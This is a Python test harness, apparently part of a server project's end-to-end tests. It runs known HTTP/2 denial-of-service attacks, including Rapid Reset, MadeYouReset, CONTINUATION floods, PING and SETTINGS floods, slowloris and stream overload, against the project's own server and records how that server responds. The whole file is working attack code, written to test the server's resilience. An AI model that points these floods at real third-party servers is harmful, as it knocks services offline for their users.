#!/usr/bin/env python3
"""A raw HTTP/2 client that abuses a Liaison server over mutual TLS.

Used by the end-to-end tests (tests/it/http2.rs) with the Python `h2`
package, which .ci/run installs. It speaks HTTP/2 through h2's state
machine and writes the frames h2 would refuse to send itself by hand. It
prints one JSON object: what it sent, what came back, and how the
connection ended.

Attacks:
  made_you_reset  open streams whose content-length promises a body they
                  end without: a stream error, so the server itself resets each
                  stream (the "MadeYouReset" class, CVE-2025-8671). A
                  bounded server ends the connection with GOAWAY.
  zero_window     open a stream and send WINDOW_UPDATE with a zero
                  increment on it (a protocol error).
  rapid_reset     open a stream and reset it at once (CVE-2023-44487).
  ping_flood      PING frames without reading the acknowledgements.
  settings_flood  SETTINGS frames without reading the acknowledgements.
  continuation_flood
                  a HEADERS frame without END_HEADERS, then CONTINUATION
                  frames of header bytes that never end (the 2024 class).
  slowloris       open as many streams as the server allows and send
                  nothing more on them until --seconds pass.
  overload        open --count streams whose requests never finish (each
                  holds one of the connection's request slots), then send
                  one complete health check on the same connection and
                  report how it was answered and how fast.
"""

import argparse
import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events

WINDOW_UPDATE = 0x8
CONTINUATION = 0x9
HEADERS = 0x1
PING = 0x6
SETTINGS = 0x4


def frame(kind, flags, stream_id, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream_id & 0x7FFFFFFF
    ) + payload


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--addr", required=True, help="host:port")
    p.add_argument("--ca", required=True)
    p.add_argument("--cert", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--attack", required=True,
                   choices=["made_you_reset", "zero_window", "rapid_reset", "ping_flood",
                            "settings_flood", "continuation_flood", "slowloris",
                            "overload"])
    p.add_argument("--count", type=int, default=5000)
    p.add_argument("--seconds", type=float, default=20.0)
    a = p.parse_args()

    host, port = a.addr.rsplit(":", 1)
    ctx = ssl.create_default_context(cafile=a.ca)
    ctx.load_cert_chain(a.cert, a.key)
    ctx.set_alpn_protocols(["h2"])
    ctx.check_hostname = False
    raw = socket.create_connection((host, int(port)), timeout=a.seconds)
    sock = ctx.wrap_socket(raw, server_hostname="localhost")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(
        client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())

    out = {"attack": a.attack, "sent": 0, "resets_received": 0, "goaway": False,
           "goaway_error": None, "closed": False, "events": 0}
    headers = [(":method", "POST"), (":scheme", "https"), (":authority", "localhost"),
               (":path", "/grpc.health.v1.Health/Check"),
               ("content-type", "application/grpc"), ("te", "trailers")]
    deadline = time.monotonic() + a.seconds
    sock.setblocking(False)

    def pump():
        """Reads what the server sent; False once the connection ended."""
        while True:
            try:
                data = sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                return True
            except (ConnectionError, ssl.SSLError, OSError) as e:
                out["closed"] = True
                out["error"] = repr(e)
                return False
            if not data:
                out["closed"] = True
                return False
            try:
                events = conn.receive_data(data)
            except Exception as e:  # a frame h2 itself finds wrong: ended anyway
                out["closed"] = True
                out["error"] = repr(e)
                return False
            for e in events:
                out["events"] += 1
                if isinstance(e, h2.events.StreamReset):
                    out["resets_received"] += 1
                elif isinstance(e, h2.events.ConnectionTerminated):
                    out["goaway"] = True
                    out["goaway_error"] = int(e.error_code)
            pending = conn.data_to_send()
            if pending:
                try:
                    sock.sendall(pending)
                except (ssl.SSLWantWriteError, BlockingIOError):
                    pass
                except (ConnectionError, ssl.SSLError, OSError):
                    out["closed"] = True
                    return False

    def send(data):
        view = memoryview(data)
        while view:
            if time.monotonic() > deadline:
                return False
            try:
                n = sock.send(view)
                view = view[n:]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                if not pump():
                    return False
                time.sleep(0.001)
            except (ConnectionError, ssl.SSLError, OSError) as e:
                out["closed"] = True
                out["error"] = repr(e)
                return False
        return True

    def room():
        """Waits until the server's stream limit lets one more stream open
        (the server's resets are read meanwhile); False if it never does."""
        while conn.open_outbound_streams >= conn.remote_settings.max_concurrent_streams:
            if out["goaway"] or not pump() or time.monotonic() > deadline:
                return False
            time.sleep(0.001)
        return True

    if a.attack == "slowloris":
        # The server's SETTINGS first: until they arrive h2 assumes no
        # stream limit, and would count streams the server then refuses.
        settings_by = time.monotonic() + 5
        while conn.remote_settings.max_concurrent_streams > 1_000_000 \
                and time.monotonic() < settings_by and pump():
            time.sleep(0.01)
        # Streams opened and left waiting for a body that never comes.
        while time.monotonic() < deadline and not out["goaway"] and not out["closed"]:
            if conn.open_outbound_streams < conn.remote_settings.max_concurrent_streams \
                    and out["sent"] < a.count:
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=False)
                if not send(conn.data_to_send()):
                    break
                out["sent"] += 1
            else:
                time.sleep(0.05)
            if not pump():
                break
        out["open_streams"] = conn.open_outbound_streams
        json.dump(out, sys.stdout)
        print()
        return
    if a.attack == "overload":
        for _ in range(a.count):
            if not room():
                break
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=False)
            if not send(conn.data_to_send()):
                break
            out["sent"] += 1
            pump()
        # Let the server start them all, then ask once more.
        settle = time.monotonic() + 0.5
        while time.monotonic() < settle and pump():
            time.sleep(0.01)
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers, end_stream=False)
        conn.send_data(sid, b"\x00\x00\x00\x00\x00", end_stream=True)
        asked = time.monotonic()
        send(conn.data_to_send())
        answer = {}
        while time.monotonic() < deadline and "grpc-status" not in answer:
            try:
                data = sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                time.sleep(0.005)
                continue
            except (ConnectionError, ssl.SSLError, OSError):
                break
            if not data:
                break
            for e in conn.receive_data(data):
                if isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)) \
                        and e.stream_id == sid:
                    for k, v in e.headers:
                        k = k.decode() if isinstance(k, bytes) else k
                        v = v.decode() if isinstance(v, bytes) else v
                        answer[k] = v
            pending = conn.data_to_send()
            if pending:
                send(pending)
        out["answer"] = answer
        out["answered_after_ms"] = int((time.monotonic() - asked) * 1000)
        json.dump(out, sys.stdout)
        print()
        return
    if a.attack == "continuation_flood":
        # Literal header field, new name: a name and value of 100 bytes
        # each, over and over, in CONTINUATION frames without END_HEADERS.
        field = b"\x00" + bytes([100]) + b"x" * 100 + bytes([100]) + b"y" * 100
        block = field * 70
        data = frame(HEADERS, 0x0, 1, b"")
        if send(data):
            for i in range(a.count):
                if out["goaway"] or out["closed"] or time.monotonic() > deadline:
                    break
                if not send(frame(CONTINUATION, 0x0, 1, block)):
                    break
                out["sent"] += 1
                if not pump():
                    break
        a.count = 0
    stream_id = 1
    for i in range(a.count):
        if out["goaway"] or out["closed"] or time.monotonic() > deadline:
            break
        if a.attack in ("made_you_reset", "zero_window", "rapid_reset") and not room():
            break
        if a.attack == "made_you_reset":
            conn.send_headers(stream_id, headers + [("content-length", "5")], end_stream=True)
            data = conn.data_to_send()
            stream_id += 2
        elif a.attack == "zero_window":
            conn.send_headers(stream_id, headers, end_stream=False)
            data = conn.data_to_send()
            data += frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", 0))
            stream_id += 2
        elif a.attack == "rapid_reset":
            conn.send_headers(stream_id, headers, end_stream=False)
            conn.reset_stream(stream_id, error_code=0x8)  # CANCEL
            data = conn.data_to_send()
            stream_id += 2
        elif a.attack == "ping_flood":
            data = frame(PING, 0, 0, struct.pack(">Q", i))
        else:
            data = frame(SETTINGS, 0, 0, b"")
        if not send(data):
            break
        out["sent"] += 1
        if not pump():
            break
    # Whatever the server still says (a GOAWAY it sent before closing may
    # still be buffered), until it ends the connection or is quiet for a
    # moment.
    if out["closed"]:
        out["closed"] = False
        pump()
        out["closed"] = True
    quiet_until = time.monotonic() + 1.0
    while not out["closed"] and time.monotonic() < min(quiet_until, deadline + 2):
        before = out["events"]
        if not pump():
            break
        if out["events"] != before:
            quiet_until = time.monotonic() + 1.0
        time.sleep(0.01)
    json.dump(out, sys.stdout)
    print()


if __name__ == "__main__":
    main()
